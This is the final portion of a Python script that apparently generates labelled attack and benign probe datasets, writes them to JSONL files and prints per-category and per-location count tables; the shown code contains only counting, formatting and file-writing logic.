    print("== %s: %d lines" % (title, len(lines)))
    by_cat = collections.Counter(ln["category"] for ln in lines)
    by_loc = collections.defaultdict(collections.Counter)
    for ln in lines:
        by_loc[ln["category"]][ln.get("location", "-")] += 1
    locs = sorted({ln.get("location", "-") for ln in lines})
    print("%-14s %5s  " % ("category", "total") + " ".join("%9s" % l for l in locs))
    for cat in by_cat:
        print("%-14s %5d  " % (cat, by_cat[cat]) + " ".join("%9d" % by_loc[cat][l] for l in locs))
    tot = collections.Counter(ln.get("location", "-") for ln in lines)
    print("%-14s %5d  " % ("ALL", len(lines)) + " ".join("%9d" % tot[l] for l in locs))


def main():
    c = Ctx(SEED)
    attacks = gen_attacks(c)
    benign = gen_benign(c)
    validate(attacks + benign)
    write(os.path.join(OUT_DIR, "probe-attacks.jsonl"), attacks)
    write(os.path.join(OUT_DIR, "probe-benign.jsonl"), benign)
    summary("attacks.jsonl", attacks)
    print()
    summary("benign.jsonl", benign)


if __name__ == "__main__":
    main()
